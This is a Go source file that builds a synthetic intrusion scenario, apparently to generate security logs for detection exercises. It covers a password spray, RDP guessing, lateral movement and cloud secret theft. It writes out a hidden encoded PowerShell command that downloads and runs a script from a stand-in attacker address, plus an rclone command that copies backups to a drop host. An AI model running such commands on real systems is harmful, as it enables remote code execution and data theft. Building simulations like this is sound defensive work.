package scenario

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
)

// The attacker's two addresses; nothing in ordinary life ever has either.
const (
	// AttackerAddress is where the spray, the guessing and every use of the stolen accounts come from.
	AttackerAddress = "203.0.113.66"
	// DropAddress is where the stolen data goes.
	DropAddress = "198.51.100.23"
	// ExfiltratedBytes is what the flow tuples towards DropAddress add up to, sent by the database server.
	ExfiltratedBytes = 6_412_906_752
)

// Step is one act of the attack, with the times of its first and last trace.
type Step struct {
	Name        string // stable id: spray, entry, tokens, probe, rule, guess, logon, alert, powershell, move, exfil, secret, principal, keys, vault
	First, Last time.Time
	Text        string
}

// Phases of the attack as offsets from the start of the case: the one place that says when what happens. Everything in
// story is laid out inside these.
const (
	sprayFrom   = 9*hour + 12*minute + 7*second
	sprayTo     = 9*hour + 26*minute + 11*second
	entryAt     = 9*hour + 26*minute + 49*second
	tokensFrom  = 9*hour + 28*minute + 15*second
	probeFrom   = 9*hour + 37*minute + 20*second
	probeTo     = 9*hour + 42*minute + 55*second
	deployAt    = 9*hour + 44*minute + 31*second
	guessFrom   = 9*hour + 52*minute + 10*second
	guessTo     = 10*hour + 14*minute + 40*second
	alertIPAt   = 10*hour + 9*minute + 33*second
	logonAt     = 10*hour + 16*minute + 21*second + 387*millisecond
	alertRDPAt  = 10*hour + 22*minute + 5*second
	shellAt     = 10*hour + 31*minute + 7*second
	moveAt      = 10*hour + 48*minute + 22*second + 614*millisecond
	rcloneAt    = 11*hour + 2*minute + 15*second
	exfilFrom   = 11*hour + 4*minute + 10*second
	exfilTo     = 12*hour + 18*minute + 50*second
	secretAt    = 11*hour + 26*minute + 40*second
	principalAt = 11*hour + 34*minute + 9*second
	keysAt      = 11*hour + 37*minute + 15*second
	vaultAt     = 11*hour + 41*minute + 2*second
	logoffAt    = 12*hour + 31*minute + 44*second + 52*millisecond
)

// Numbers of the attack that the whole story turns on.
const (
	sprayFailures = 37
	sprayAccounts = 31
	rdpFailures   = 58
	deniedProbes  = 12
)

// guessAccount is the domain account whose password the guessing finds.
const guessAccount = "svc-web"

// story is the attack laid out for one case: absolute times, and the identifiers that several sources must agree on.
type story struct {
	co                    *company
	start                 ticks
	spray                 []attempt
	probes                []connection
	guesses               []guess
	session               session // RDP from the attacker to web01
	move                  session // network logon from web01 to db01
	lateral               []connection
	download              connection // the script that the encoded command fetches
	processes             []process
	exfil                 []transfer
	deployment, rule      guid // correlation ids
	ruleName, deployName  string
	secretKey             guid
	portal                guid      // sign-in session of the phished account
	tokens                [4]string // ids of the tokens issued in it, as sign-ins and the activity log name them
	appTokens             [3]string // the same of the application's sign-ins
	shell, rclone         *process
	rdpLinks              int // connections accepted on 3389
	serviceSID            string
	secretAt, principalAt ticks
}

// attempt is one password tried on Entra.
type attempt struct {
	at   ticks
	who  *person
	code string
}

// guess is one password tried over RDP.
type guess struct {
	at        ticks
	account   string
	logonType int
	known     bool // the account exists: sub status C000006A instead of C0000064
	port      int
}

// connection is a TCP connection between two addresses; end is zero for one that was refused.
type connection struct {
	at, end        ticks
	src, dst       string
	sport, dport   int
	sent, received int64 // bytes from src to dst and back over its whole life
}

// session is a logon and the connection under it.
type session struct {
	connection
	logonID uint64
}

// process is one started program.
type process struct {
	at                ticks
	on                *machine
	img, parent       *image
	pid, parentPID    int64
	command           string
	parentCommand     string
	parentAt          ticks // when the parent started
	grandParent       string
	grandParentPID    int64
	logonID           uint64
	interactive       bool // in the attacker's desktop session
	user, domain, sid string
}

// transfer is one of the parallel uploads.
type transfer struct{ connection }

// newStory lays the attack out. It has its own random stream, so it is the same at every scale.
func newStory(co *company, start ticks) *story {
	r := newRNG(co.seed, "attack", 0)
	s := &story{
		co: co, start: start, ruleName: "allow-rdp-maintenance", deployName: "rdp-maintenance-0310",
		deployment: r.guid(), secretKey: r.guid(), serviceSID: co.domainSID + "-1152",
		secretAt: start + secretAt, principalAt: start + principalAt,
	}
	s.portal = r.guid()
	for i := range s.tokens {
		s.tokens[i] = string(r.appendToken(nil, 22))
	}
	for i := range s.appTokens {
		s.appTokens[i] = string(r.appendToken(nil, 22))
	}
	s.rule = s.deployment // a deployment's operations carry its correlation id
	s.layOutSpray(r)
	s.layOutRDP(r)
	s.layOutProcesses(r)
	s.layOutMove(r)
	return s
}

// layOutSpray tries 31 accounts once and six of them twice; three attempts meet the smart lockout.
func (s *story) layOutSpray(r *rng) {
	targets := make([]*person, 0, sprayAccounts)
	for _, p := range s.co.people {
		if p != s.co.phished && len(targets) < sprayAccounts-1 {
			targets = append(targets, p)
		}
	}
	targets = append(targets, s.co.phished)
	for i := range targets {
		j := r.n(i + 1)
		targets[i], targets[j] = targets[j], targets[i]
	}
	const span = sprayTo - sprayFrom
	for i := range sprayFailures {
		a := attempt{at: s.start + sprayFrom + span*int64(i)/(sprayFailures-1), who: targets[i%sprayAccounts], code: "50126"}
		if i > 0 && i < sprayFailures-1 {
			a.at += int64(r.between(-4000, 4000)) * millisecond
		}
		a.at += int64(r.n(int(millisecond)))
		if i >= sprayAccounts && i%2 == 0 {
			a.code = "50053"
		}
		s.spray = append(s.spray, a)
	}
}

// layOutRDP makes the refused probes, the guessing and the session that follows.
func (s *story) layOutRDP(r *rng) {
	web := s.co.web01.ip
	jitter := func(from, to ticks, i, n int) ticks {
		return s.start + from + (to-from)*int64(i)/int64(n-1) + int64(r.n(int(3*second)))
	}
	for i := range deniedProbes {
		at := jitter(probeFrom, probeTo, i, deniedProbes)
		s.probes = append(s.probes, connection{at: at, src: AttackerAddress, dst: web, sport: r.between(40000, 60000), dport: 3389})
	}
	names := [...]string{"administrator", "admin", guessAccount, "azureuser", "svc-sql", "backup", "webadmin", "test"}
	for i := range rdpFailures {
		g := guess{at: jitter(guessFrom, guessTo, i, rdpFailures), account: names[i%len(names)], logonType: 3, port: 49200 + i*7 + r.n(7)}
		if i%7 == 6 {
			g.logonType = 10
		}
		g.known = g.account == guessAccount || g.account == "administrator" || g.account == "svc-sql"
		s.guesses = append(s.guesses, g)
	}
	s.session = session{connection: connection{
		at: s.start + logonAt - 2*second - 3_141_592, end: s.start + logoffAt, src: AttackerAddress, dst: web,
		sport: 50412, dport: 3389, sent: 18_240_118, received: 241_882_604,
	}, logonID: 0x4a7e31c}
	s.rdpLinks = rdpFailures + 1
}

// layOutProcesses starts the programs the attacker ran.
func (s *story) layOutProcesses(r *rng) {
	img := s.co.images
	script := "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('http://" + AttackerAddress + "/a.ps1')"
	encoded := "powershell.exe -nop -w hidden -enc " + encodeCommand(script)
	add := func(at ticks, on *machine, name, parent string, pid, parentPID int64, command, parentCommand string, logon uint64) *process {
		p := process{
			at: s.start + at + int64(r.n(int(second))), on: on, img: img[name], parent: img[parent], pid: pid, parentPID: parentPID,
			command: command, parentCommand: parentCommand, logonID: logon, interactive: on == s.co.web01,
			user: guessAccount, domain: netbiosDomain, sid: s.serviceSID,
			parentAt: s.session.at + 9*second, grandParent: "userinit.exe", grandParentPID: 0x0c30,
		}
		for i := range s.processes {
			if q := &s.processes[i]; q.on == on && q.pid == parentPID {
				p.parentAt, p.grandParent, p.grandParentPID = q.at, baseName(q.parent.path), q.parentPID
			}
		}
		s.processes = append(s.processes, p)
		return &s.processes[len(s.processes)-1]
	}
	s.processes = make([]process, 0, 8) // the pointers below must stay valid
	const cmd, explorer = `"C:\Windows\System32\cmd.exe"`, `C:\Windows\Explorer.EXE`
	web, db, id := s.co.web01, s.co.db01, s.session.logonID
	add(shellAt-40*second, web, "cmd.exe", "explorer.exe", 0x19d4, 0x1288, cmd, explorer, id)
	s.shell = add(shellAt, web, "powershell.exe", "cmd.exe", 0x1a2c, 0x19d4, encoded, cmd, id)
	add(shellAt+112*second, web, "whoami.exe", "powershell.exe", 0x1b08, 0x1a2c, `"C:\Windows\System32\whoami.exe" /groups`, encoded, id)
	add(shellAt+171*second, web, "nltest.exe", "powershell.exe", 0x1b64, 0x1a2c, `"C:\Windows\System32\nltest.exe" /dclist:contoso.com`, encoded, id)
	add(shellAt+305*second, web, "net.exe", "powershell.exe", 0x1bf0, 0x1a2c, `"C:\Windows\System32\net.exe" view \\db01`, encoded, id)
	s.move.logonID = 0x91c04d7
	s.download = connection{at: s.shell.at + 1_902_338, end: s.shell.at + 3*second, src: web.ip, dst: AttackerAddress, sport: 51640, dport: 80, sent: 1_412, received: 88_214}
	s.rclone = add(rcloneAt, db, "rclone.exe", "wmiprvse.exe", 0x22f8, 0x0e5c,
		`C:\ProgramData\Intel\rclone.exe copy D:\Backup\ drop:in --transfers 4 --config C:\ProgramData\Intel\r.conf`,
		`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, s.move.logonID)
}

// layOutMove makes the connections from web01 to db01 and the upload from there.
func (s *story) layOutMove(r *rng) {
	web, db := s.co.web01.ip, s.co.db01.ip
	at := s.start + moveAt
	s.move.connection = connection{at: at - second, end: at + 94*minute, src: web, dst: db, sport: 51877, dport: 445, sent: 73_418_220, received: 2_914_377}
	s.lateral = []connection{
		s.move.connection,
		{at: at + 3*minute, end: at + 7*minute, src: web, dst: db, sport: 51902, dport: 1433, sent: 48_120, received: 1_207_334},
		{at: at + 12*minute, end: at + 13*minute, src: web, dst: db, sport: 51960, dport: 135, sent: 4_412, received: 3_908},
		{at: at + 12*minute + second, end: at + 17*minute, src: web, dst: db, sport: 51961, dport: 49668, sent: 19_774, received: 11_265},
	}
	left := int64(ExfiltratedBytes)
	for i := range 4 {
		size := left / int64(4-i)
		if i < 3 {
			size += int64(r.between(-90_000_000, 90_000_000))
		}
		left -= size
		s.exfil = append(s.exfil, transfer{connection{
			at: s.start + exfilFrom + int64(i)*1700*millisecond, end: s.start + exfilTo - int64(3-i)*41*second,
			src: db, dst: DropAddress, sport: 50811 + i, dport: 443, sent: size, received: size / 61,
		}})
	}
}

// steps lists the attack in order, for summaries and for the reader.
func (s *story) steps() []Step {
	web, db := s.co.web01.host, s.co.db01.host
	step := func(name string, from, to ticks, format string, a ...any) Step {
		return Step{name, toTime(s.start + from), toTime(s.start + to), fmt.Sprintf(format, a...)}
	}
	return []Step{
		step("spray", sprayFrom, sprayTo, "%d failed sign-ins to %d accounts from %s", sprayFailures, sprayAccounts, AttackerAddress),
		step("entry", entryAt, entryAt, "%s signs in from %s with one factor", s.co.phished.upn, AttackerAddress),
		step("tokens", tokensFrom, tokensFrom+97*minute, "its tokens are used for Azure management and Graph"),
		step("probe", probeFrom, probeTo, "%d connections to %s:3389 refused by the security group", deniedProbes, web),
		step("rule", deployAt, deployAt+32*second, "deployment %s opens 3389 to %s (rule %s)", s.deployName, AttackerAddress, s.ruleName),
		step("guess", guessFrom, guessTo, "%d failed logons to %s over RDP", rdpFailures, web),
		step("alert", alertIPAt, alertRDPAt, "Defender for Cloud reports the address and the guessing"),
		step("logon", logonAt, logoffAt, "%s\\%s logs on to %s over RDP", netbiosDomain, guessAccount, web),
		step("powershell", shellAt, shellAt+305*second, "an encoded PowerShell command and discovery on %s", web),
		step("move", moveAt, moveAt+94*minute, "the same account logs on to %s over the network from %s", db, s.co.web01.ip),
		step("exfil", exfilFrom, exfilTo, "%d bytes go from %s to %s", int64(ExfiltratedBytes), db, DropAddress),
		step("secret", secretAt, secretAt, "a new secret on the application %s", s.co.principals[0].name),
		step("principal", principalAt, principalAt+1471*second, "that application signs in from %s", AttackerAddress),
		step("keys", keysAt, keysAt+second, "it lists the keys of storage account stcontosodata"),
		step("vault", vaultAt, vaultAt+19*second, "it reads three secrets of kv-contoso-prod"),
	}
}

// encodeCommand is what PowerShell's -EncodedCommand takes: base64 of UTF-16LE.
func encodeCommand(script string) string {
	var b strings.Builder
	for _, c := range script {
		b.WriteByte(byte(c))
		b.WriteByte(byte(c >> 8))
	}
	return base64.StdEncoding.EncodeToString([]byte(b.String()))
}

// moment is one record of the attack in one source: when, and how that source writes it.
type moment struct {
	at     ticks
	render func(l *line, r *rng)
}
